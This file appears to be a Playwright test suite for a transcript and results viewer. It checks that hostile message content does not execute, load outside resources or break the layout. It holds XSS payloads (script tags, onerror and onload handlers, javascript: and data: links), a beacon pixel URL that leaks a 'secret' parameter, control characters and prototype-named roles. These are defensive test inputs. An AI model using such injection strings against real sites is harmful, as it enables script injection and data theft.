import { batchPath, expect, PASSED, runEvents, runPath, setPath, test } from "../fixtures";
import { listen } from "../look-over";

const HOSTILE = [
  "<script>document.title = 'pwned'</script>",
  "<img src=x onerror=\"document.title = 'pwned'\">",
  "Look: ![beacon](https://beacon.example/pixel.png?secret=1)",
  "[press me](javascript:document.title='pwned')",
  "[data](data:text/html,<script>alert(1)</script>)",
  "<svg onload=\"document.title = 'pwned'\"></svg>",
  "turned \u202E around, and \u001B[31mred",
].join("\n\n");

test("a hostile transcript runs nothing and loads nothing from elsewhere", async ({
  page,
  place,
  postEvents,
  baseURL,
}) => {
  const runId = "<img src=x onerror=alert(1)>";
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(baseURL ?? "")) foreign.push(request.url());
  });
  page.on("dialog", (dialog) => {
    foreign.push(dialog.message());
    void dialog.dismiss();
  });
  const image = { type: "image_url", image_url: { url: "https://beacon.example/part.png" } };
  const messages = [
    { id: "1", role: "user", content: HOSTILE },
    { id: "2", role: "assistant", content: [{ type: "text", text: HOSTILE }, image] },
  ];
  const results = {
    verdict: "failure",
    reasoning: HOSTILE,
    metCriteria: [],
    unmetCriteria: [HOSTILE],
    error: HOSTILE,
  };
  const story = { ...place, runId, name: HOSTILE, scenarioId: "<b>bold</b>", messages };
  await postEvents(runEvents({ ...story, end: { status: "ERROR", results } }));

  await page.goto(runPath(place, runId));
  const link = page.getByRole("link", { name: /Open image “beacon”/ }).first();
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(page.getByRole("link", { name: "Open image", exact: true })).toBeVisible();
  await expect(page.getByRole("link", { name: "press me" })).toBeHidden();
  await expect(page.getByText("[U+202E]").first()).toBeVisible();
  await expect(page.locator("img, iframe, object, main script")).toHaveCount(0);
  await expect(page).not.toHaveTitle("pwned");
  expect(foreign).toEqual([]);
});

const DEEP_JSON = "[".repeat(20_000) + "]".repeat(20_000);
const WIDE = "x".repeat(10_000);
const SHAPELESS = [
  "x\uD800y",
  `${"x".repeat(1200)}\uD800y`,
  `${"x".repeat(999)}😀${"x".repeat(1000)}`,
  WIDE,
  "> ".repeat(300) + "quoted",
  "- ".repeat(300) + "listed",
  "> ".repeat(20) + "quoted",
  "- ".repeat(20) + "listed",
  `${"*a ".repeat(300)}b${" a*".repeat(300)}`,
  DEEP_JSON,
  `{"deep":${DEEP_JSON}}`,
];

for (const width of [1400, 360])
  test(`text without form neither breaks nor widens a page ${String(width)} wide`, async ({
    page,
    place,
    postEvents,
  }) => {
    test.slow(); // a browser lays out many long lines without a space to break at
    const runId = `shapeless at ${String(width)}`;
    const problems = listen(page);
    const messages = SHAPELESS.flatMap((text, index) => {
      const id = `call-${String(index)}`;
      const call = { id, type: "function", function: { name: text, arguments: text } };
      const file = { filename: text, file_data: "data:text/plain;base64,eA==" };
      return [
        { id: `${id}-user`, role: "user", content: text },
        { id: `${id}-agent`, role: "assistant", content: text, tool_calls: [call] },
        { id: `${id}-tool`, role: "tool", tool_call_id: id, content: text },
        { id: `${id}-file`, role: "user", content: [{ type: "file", file }] },
      ];
    });
    const results = {
      verdict: "failure",
      reasoning: SHAPELESS.join("\n\n"),
      metCriteria: SHAPELESS,
      unmetCriteria: SHAPELESS,
      error: JSON.stringify({ name: `\uD800${WIDE}`, message: WIDE, stack: DEEP_JSON }),
    };
    const events = runEvents({
      ...place,
      runId,
      scenarioId: "shapeless",
      name: `x\uD800y${WIDE}`,
      messages,
      end: { status: "ERROR", results },
    });
    const metadata = { name: `x\uD800y${WIDE}`, description: `x\uD800y${WIDE}`, [WIDE]: WIDE };
    await postEvents([{ ...events[0], metadata }, ...events.slice(1)]);

    await page.setViewportSize({ width, height: 900 });
    const paths = [runPath(place, runId), batchPath(place), setPath(place), "/default/simulations"];
    for (const path of [...paths, `${batchPath(place)}?view=list`]) {
      await page.goto(path);
      await expect(page.locator("[data-row]").first()).toBeVisible();
      await page.evaluate(openAll);
      await expect(page.getByRole("button", { name: /^Show all/ })).toHaveCount(0);
      expect(await page.evaluate(overflow), path).toBeLessThanOrEqual(0);
    }
    expect(problems).toEqual([]);
  });

function openAll(): void {
  for (const element of document.querySelectorAll<HTMLElement>("main summary, main button"))
    if (element.tagName === "SUMMARY" || element.textContent.startsWith("Show all"))
      element.click();
}

function overflow(): number {
  return document.documentElement.scrollWidth - document.documentElement.clientWidth;
}

test("roles and tools called like parts of JavaScript are shown like any other", async ({
  page,
  place,
  postEvents,
}) => {
  const complaints = listen(page);
  const roles = ["constructor", "toString", "__proto__", "hasOwnProperty"];
  const messages = roles.map((role, index) => ({
    id: role,
    role,
    content: `Line ${String(index)} of four`,
    tool_calls: [{ id: role, type: "function", function: { name: role, arguments: "{}" } }],
    trace_id: role,
  }));
  await postEvents(runEvents({ ...place, runId: "run", name: "Odd roles", messages, end: PASSED }));
  await page.goto(runPath(place, "run"));
  await expect(page.getByText(/Line \d of four/)).toHaveCount(roles.length);
  for (const role of roles) await expect(page.getByText(role).first()).toBeVisible();
  expect(complaints).toEqual([]);
});
